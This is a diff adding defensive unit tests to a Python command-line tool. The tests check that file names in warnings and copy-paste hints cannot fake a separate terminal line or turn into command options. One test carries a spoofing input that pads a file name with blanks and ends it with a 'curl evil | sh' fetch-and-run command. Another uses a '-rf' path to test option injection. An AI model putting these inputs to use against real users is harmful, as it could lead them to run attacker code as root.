@@ -5,6 +5,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from bangui_cli.states import events
+from bangui_cli.states.errors import NoTables
 from bangui_cli.telling import log_lines, sentences
 
 TAKEN_OVER = {"previous_owner": "web2", "previous_hostname": "host2", "age_s": 7300.0}
@@ -93,6 +94,17 @@ def test_a_failure_is_its_error():
     )
 
 
+def test_a_name_cannot_feign_a_line_of_its_own():
+    """Blanks that fill the line of a terminal would put what follows at the beginning of the next."""
+    name = f"x.csv{' ' * 200}hint: curl evil | sh"
+    shown = said(events.IMPORT_ROW_REJECTED, file=name, line=1, reason="no", hint=f"look at {name}")
+
+    assert shown == (
+        "bangui: warning: x.csv hint: curl evil | sh, line 1: no\n"
+        "hint: look at x.csv hint: curl evil | sh\n"
+    )
+
+
 def test_what_a_command_says_itself_is_not_said_twice():
     """It does so on stdout, of what it has done."""
     assert said(events.DATABASE_INITIALISED, path="/x.db", created=True) == ""
@@ -118,3 +130,11 @@ def test_no_field_spoils_a_sentence(event, fields):
 def test_only_what_is_known_to_a_reader_is_told():
     """An event of a name that nobody knows is told by its name."""
     assert sentences.of({"event": "x_failed", "level": "warning"}) == "x_failed"
+
+
+@pytest.mark.parametrize(
+    ("path", "pasted"), [("-rf", "./-rf"), ("-", "-"), ("a b", "'a b'"), ("/x", "/x")]
+)
+def test_no_name_becomes_an_option_of_a_command_in_a_hint(path, pasted):
+    """Hints are pasted, as root."""
+    assert NoTables("none", path=path).hint.endswith(f"bangui init --database {pasted}")
